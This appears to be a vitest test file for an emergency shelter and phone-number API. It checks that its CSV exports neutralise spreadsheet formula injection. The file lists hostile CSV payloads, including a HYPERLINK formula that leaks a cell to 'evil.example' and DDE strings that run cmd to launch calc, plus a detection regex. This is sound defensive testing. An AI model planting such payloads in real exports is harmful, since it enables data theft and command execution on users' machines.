import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PhoneNumber } from '../../provisioning/model/index.js';
import { apiCarrierInput, call, mint, registerCarrier, startApiServer, type ApiServer } from '../support/api-server.js';

/**
 * The audit's finding: a value typed into a public form or an admin field landed unchanged in a
 * CSV a coordinator, MIC or the police open in Excel. Every export, a hostile value in every
 * free-text column it has: no cell may start with a character a spreadsheet reads as a formula.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  // Full-width forms: Japanese input methods type these, and spreadsheets read them as the ASCII ones.
  '＝1+1',
];
/** OWASP's characters (https://owasp.org/www-community/attacks/CSV_Injection), with the full-width forms. */
const FORMULA_START = /^[=+\-@\t\r\n＝＋－＠]/;
const E164 = '+81767529901';

let s: ApiServer;
let admin: string;
beforeAll(async () => {
  s = await startApiServer();
  admin = s.adminToken;
  const coordinator = (await mint(s, 'coordinator')).token;
  // Shelters whose every free-text field holds one hostile value.
  for (const [i, bad] of HOSTILE.entries()) {
    const body = { id: `CSV-${i}`, name: bad, municipalityCode: '172022', municipality: bad, district: bad, address: bad, capacityText: bad, lat: 37.04, lon: 136.96 };
    const r = await call(s, 'post', '/api/v1/shelters', { token: coordinator, json: body });
    expect(r.status, JSON.stringify(bad)).toBe(201);
  }
  // A member named by a hostile admin, lending the number a report is about, held by a hostile shelter.
  await registerCarrier(s, { ...apiCarrierInput('csv-member'), name: HOSTILE[0] });
  const at = s.clock.now().toISOString();
  await s.store.put('numbers', PhoneNumber.parse({ id: E164, e164: E164, kind: '0ABJ', areaCode: '0767', numberArea: '0767', emergencyCapable: true, carrierId: 'csv-member', state: 'in_service', shelterId: 'CSV-1', lentAt: at, updatedAt: at }));
  const calledAt = new Date(s.clock.now().getTime() - 3_600_000).toISOString();
  const triager = await call(s, 'post', '/api/v1/tokens', { token: admin, json: { label: HOSTILE[3], role: 'authority' } });
  for (const [i, bad] of HOSTILE.entries()) {
    const sent = await call(s, 'post', '/report', { json: { number: E164, calledAt, description: `${bad} (${i})`, contact: bad } });
    expect(sent.status, JSON.stringify(bad)).toBe(201);
    const triaged = await call(s, 'post', `/api/v1/reports/${sent.body.id}/triage`, { token: triager.body.token, json: { triage: 'needs_info', note: bad } });
    expect(triaged.status).toBe(200);
  }
  const suspended = await call(s, 'post', '/api/v1/suspensions', { token: triager.body.token, json: { number: E164, reason: HOSTILE[1] } });
  expect(suspended.status).toBe(201);
});
afterAll(() => s?.close());

async function exportCsv(path: string): Promise<{ bytes: Buffer; rows: string[][] }> {
  const res = await fetch(s.url + path, { headers: { authorization: `Bearer ${admin}` } });
  expect(res.status, path).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
  const bytes = Buffer.from(await res.arrayBuffer());
  return { bytes, rows: parseCsv(bytes.toString('utf8'), { bom: true, relax_column_count: false }) as string[][] };
}

const EXPORTS = {
  shelters: '/api/v1/exports/shelters.csv',
  reports: `/api/v1/reports/export?from=2025-05-01T00:00:00.000Z&to=2025-07-01T00:00:00.000Z`,
  audit: '/api/v1/audit?format=csv&limit=1000',
};

describe('every CSV export, with a hostile value in every free-text column', () => {
  it.each(Object.entries(EXPORTS))('%s: no cell starts with a formula character, and each hostile value is kept behind a quote', async (_name, path) => {
    const { bytes, rows } = await exportCsv(path);
    // UTF-8 with a BOM (Excel reads Japanese right) and CRLF records.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8').split('\r\n').length).toBeGreaterThan(rows.length - 1);
    const cells = rows.flat();
    const dangerous = cells.filter((c) => FORMULA_START.test(c));
    expect(dangerous, `cells that a spreadsheet would run as formulas in ${path}`).toEqual([]);
    // Neutralised, not dropped: the words are still there for the reader, after one quote.
    const found = HOSTILE.filter((bad) => cells.some((c) => c === `'${bad}` || c.includes(bad.trim())));
    expect(found.length, `hostile values kept in ${path}`).toBeGreaterThan(0);
  });

  it('the shelters CSV keeps each hostile name whole after one quote', async () => {
    const { rows } = await exportCsv(EXPORTS.shelters);
    const [header, ...body] = rows;
    const name = header!.indexOf('名称');
    for (const [i, bad] of HOSTILE.entries()) expect(body.find((r) => r[0] === `CSV-${i}`)![name]).toBe(`'${bad}`);
  });

  it('the reports CSV quotes the reporter’s words, the member’s name and the triager’s label', async () => {
    const { rows } = await exportCsv(EXPORTS.reports);
    const [header, ...body] = rows;
    const col = (n: string) => header!.indexOf(n);
    expect(body).toHaveLength(HOSTILE.length);
    for (const r of body) {
      expect(r[col('carrier_name')]).toBe(`'${HOSTILE[0]}`);
      expect(r[col('shelter_name')]).toBe(`'${HOSTILE[1]}`);
      expect(r[col('triaged_by')]).toBe(`'${HOSTILE[3]}`);
    }
    // The public form trims what was typed, so a tab or line break in front is gone before it is stored.
    expect(body.map((r) => r[col('contact')])).toContain(`'${HOSTILE[0]}`);
  });
});

describe('the audit CSV, like the shelters CSV a coordinator opens in Excel', () => {
  it('has Japanese headers, times in Japan time with their offset, and readable cells instead of raw JSON', async () => {
    const { rows } = await exportCsv(EXPORTS.audit);
    const [header, ...body] = rows;
    for (const h of header!) expect(h, 'header').toMatch(/[\u3040-\u30ff\u4e00-\u9fff]/);
    const at = header!.indexOf('日時');
    expect(at).toBeGreaterThanOrEqual(0);
    for (const r of body) expect(r[at]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+09:00$/);
    const json = body.flat().filter((c) => /^\s*[[{]/.test(c) && (() => { try { JSON.parse(c); return true; } catch { return false; } })());
    expect(json, 'cells holding raw JSON').toEqual([]);
    // An action a person reads (the code stays beside it for a script).
    expect(body.flat()).toContain('避難所を登録・更新');
    expect(body.flat()).toContain('番号の利用停止');
  });
});
